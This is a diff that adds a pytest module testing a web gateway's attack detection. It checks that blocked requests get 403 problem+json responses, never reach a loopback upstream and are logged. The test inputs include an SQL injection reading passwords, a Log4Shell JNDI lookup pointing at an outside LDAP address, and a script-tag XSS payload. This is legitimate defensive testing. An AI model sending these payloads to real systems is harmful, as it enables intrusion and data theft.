@@ -1,0 +1,190 @@
+"""Attack detection through the real gateway: blocked attacks never reach the upstream.
+
+A small recording upstream (stdlib ``ThreadingHTTPServer`` on loopback) remembers every
+request target and header it received, so each test can prove what got through.
+"""
+
+from __future__ import annotations
+
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import Any
+
+import pytest
+
+from bastion.testing import GatewayProcess, RawResponse, parse_one_response, raw_request
+
+
+class _Recorder(BaseHTTPRequestHandler):
+    """Answers 200 with a tiny JSON body and records what it saw."""
+
+    seen: list[tuple[str, dict[str, str]]] = []
+    lock = threading.Lock()
+
+    def _answer(self) -> None:
+        length = int(self.headers.get("content-length") or 0)
+        if length:
+            self.rfile.read(length)
+        with self.lock:
+            self.seen.append((self.path, {k.lower(): v for k, v in self.headers.items()}))
+        body = b'{"ok":true}'
+        self.send_response(200)
+        self.send_header("content-type", "application/json")
+        self.send_header("content-length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    do_GET = _answer
+    do_POST = _answer
+
+    def log_message(self, format: str, *args: Any) -> None:
+        return
+
+
+class Upstream:
+    """The recording upstream, with the list of requests it received."""
+
+    def __init__(self) -> None:
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
+        self.server.daemon_threads = True
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+
+    @property
+    def seen(self) -> list[tuple[str, dict[str, str]]]:
+        with _Recorder.lock:
+            return list(_Recorder.seen)
+
+    def targets(self) -> list[str]:
+        return [target for target, _ in self.seen]
+
+
+@pytest.fixture(scope="module")
+def upstream() -> Iterator[Upstream]:
+    """A recording upstream on a free loopback port, stopped after the module."""
+    up = Upstream()
+    up.thread.start()
+    try:
+        yield up
+    finally:
+        up.server.shutdown()
+        up.server.server_close()
+
+
+def gateway_config(upstream_url: str, mode: str) -> dict[str, Any]:
+    return {
+        "access_log": {"path": "access.log"},
+        "services": [
+            {
+                "name": "api",
+                "upstream": upstream_url,
+                "policies": {"detection": {"mode": mode, "paranoia": 1}},
+                "routes": [{"path": "/", "prefix": True, "public": True}],
+            }
+        ],
+    }
+
+
+def get(gw: GatewayProcess, target: str, headers: dict[str, str] | None = None) -> RawResponse:
+    lines = [f"GET {target} HTTP/1.1", "Host: api.test", "Connection: close"]
+    lines += [f"{k}: {v}" for k, v in (headers or {}).items()]
+    data = raw_request("127.0.0.1", gw.port, ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1"))
+    return parse_one_response(data)[0]
+
+
+@pytest.fixture(scope="module")
+def blocking(upstream: Upstream) -> Iterator[GatewayProcess]:
+    """The gateway with detection in block mode at paranoia 1 on a catch-all route."""
+    with GatewayProcess(gateway_config(upstream.url, "block")) as gw:
+        yield gw
+
+
+def test_sqli_in_query_is_refused_with_problem_json(blocking: GatewayProcess, upstream: Upstream) -> None:
+    """An SQL injection in a query value gets 403 problem+json and never reaches the upstream."""
+    reply = get(blocking, "/items?marker=sqli1&id=1%27%20UNION%20SELECT%20password%20FROM%20users--")
+    assert reply.status == 403
+    assert reply.header("content-type") == "application/problem+json"
+    doc = reply.json()
+    assert doc["status"] == 403
+    assert doc["title"] == "Forbidden"
+    assert doc["detail"] == "The request was blocked by the gateway's attack detection."
+    assert "UNION" not in reply.body.decode() and "password" not in reply.body.decode()
+    assert not any("sqli1" in t for t in upstream.targets())
+    record = blocking.wait_for_access_record(lambda r: r.get("status") == 403 and "detection" in r)
+    assert record["blocked_by"] == "detection"
+    detection = record["detection"]
+    assert detection["blocked"] is True
+    assert detection["category"] == "sqli"
+    hit = next(h for h in detection["hits"] if h["location"] == "query:id")
+    assert hit["category"] == "sqli"
+    assert isinstance(hit["rule"], int)
+    assert 0 < len(hit["snippet"]) <= 40
+
+
+def test_jndi_in_arbitrary_x_header_is_refused(blocking: GatewayProcess, upstream: Upstream) -> None:
+    """A Log4Shell JNDI lookup in a made-up ``X-`` header is blocked before the upstream."""
+    reply = get(blocking, "/profile?marker=jndi1", {"X-Api-Version": "${jndi:ldap://203.0.113.9/a}"})
+    assert reply.status == 403
+    assert reply.header("content-type") == "application/problem+json"
+    assert not any("jndi1" in t for t in upstream.targets())
+    record = blocking.wait_for_access_record(
+        lambda r: (
+            r.get("status") == 403
+            and any(h["location"] == "header:x-api-version" for h in r.get("detection", {}).get("hits", []))
+        )
+    )
+    assert record["blocked_by"] == "detection"
+    hits = record["detection"]["hits"]
+    hit = next(h for h in hits if h["location"] == "header:x-api-version" and h["category"] == "jndi")
+    assert "jndi" in hit["snippet"]
+    assert len(hit["snippet"]) <= 40
+
+
+def test_benign_apostrophe_passes(blocking: GatewayProcess, upstream: Upstream) -> None:
+    """A name with an apostrophe (O'Brien) and prose with SQL words reach the upstream unchanged."""
+    target = "/people?marker=benign1&name=O%27Brien&note=select+a+union+rep"
+    reply = get(blocking, target)
+    assert reply.status == 200
+    assert reply.json() == {"ok": True}
+    assert target in upstream.targets()
+
+
+def test_monitor_mode_forwards_and_logs(upstream: Upstream) -> None:
+    """In monitor mode the same SQL injection reaches the upstream, and the log says what would have blocked."""
+    with GatewayProcess(gateway_config(upstream.url, "monitor")) as gw:
+        target = "/items?marker=mon1&id=1%27%20UNION%20SELECT%20password%20FROM%20users--"
+        reply = get(gw, target)
+        assert reply.status == 200
+        assert target in upstream.targets()
+        record = gw.wait_for_access_record(lambda r: "detection" in r)
+        assert record["status"] == 200
+        assert "blocked_by" not in record
+        assert record["detection"]["blocked"] is False
+        assert record["detection"]["category"] == "sqli"
+        assert {"stage": "detection", "action": "monitor", "reason": "detection.sqli"} in record["decisions"]
+
+
+def test_openapi_extension_enables_detection(upstream: Upstream) -> None:
+    """``x-bastion-detection`` in an OpenAPI document turns detection on for its operations."""
+    spec = (
+        "openapi: 3.0.3\n"
+        "info: {title: t, version: '1'}\n"
+        "x-bastion-detection: {mode: block, paranoia: 1}\n"
+        "paths:\n"
+        "  /search:\n"
+        "    get:\n"
+        "      operationId: search\n"
+        "      security: []\n"
+        "      responses: {'200': {description: ok}}\n"
+    )
+    config = {
+        "access_log": {"path": "access.log"},
+        "services": [{"name": "api", "upstream": upstream.url, "openapi": "api.yaml"}],
+    }
+    with GatewayProcess(config, files={"api.yaml": spec}) as gw:
+        attack = get(gw, "/search?marker=oas1&q=%3Cscript%3Ealert(1)%3C/script%3E")
+        assert attack.status == 403, attack.body
+        assert not any("oas1" in t for t in upstream.targets())
+        benign = get(gw, "/search?marker=oas2&q=O%27Brien")
+        assert benign.status == 200, benign.body
